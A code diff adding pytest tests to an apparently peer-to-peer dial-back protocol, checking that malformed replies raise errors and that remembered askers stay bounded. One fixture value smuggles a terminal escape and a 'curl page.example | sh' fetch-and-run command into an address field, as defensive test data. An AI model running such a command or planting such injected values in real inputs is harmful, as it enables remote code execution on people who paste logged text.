@@ -129,6 +129,44 @@ def test_a_reply_that_is_none_and_a_peer_that_hangs_up_are_errors() -> None:
     run(main())
 
 
+@pytest.mark.parametrize(
+    "reply",
+    [
+        DialBackReply("fe80::1%\x1b[2J; curl page.example | sh", ("open",)),
+        DialBackReply("page.example", ("open",)),
+        DialBackReply("192.0.2.1", ("\x1b[2J",)),
+        DialBackReply("192.0.2.1", ("open", "busy")),
+    ],
+)
+def test_a_reply_with_words_of_its_own_is_none(reply: DialBackReply) -> None:
+    """People read it in the log, with an option to paste."""
+
+    async def main() -> None:
+        ours, theirs = socket.socketpair()
+        data = encode_value(reply)
+        theirs.sendall(struct.pack("<H", len(data)) + data)
+
+        async def open_it(*_: Any) -> Any:
+            return await asyncio.open_connection(sock=ours)
+
+        with theirs, pytest.raises(RemoteProtocolError):
+            await ask(open_it, ASKER, DialBackRequest(RUN_ID, (1,)))
+
+    run(main())
+
+
+def test_askers_are_forgotten_beyond_a_bound_also_while_it_is_busy(monkeypatch: pytest.MonkeyPatch) -> None:
+    async def main() -> None:
+        monkeypatch.setattr(dial_back, "SIMULTANEOUS_MAX", 0)
+        monkeypatch.setattr(dial_back, "ASKERS_MAX", 3)
+        peer = Peer()
+        for number in range(6):
+            assert (await peer.asked(1, peer_id=PeerId(bytes([number]) * 32))).outcomes == ("busy",)
+        assert len(peer.server._asked_at) == 3
+
+    run(main())
+
+
 def test_the_bytes_are_those_of_the_specification() -> None:
     assert encode_value(DialBackRequest(RUN_ID, (4001,))).hex() == (
         "82a5706f72747391cd0fa1a672756e5f6964c420" + bytes(range(32)).hex()
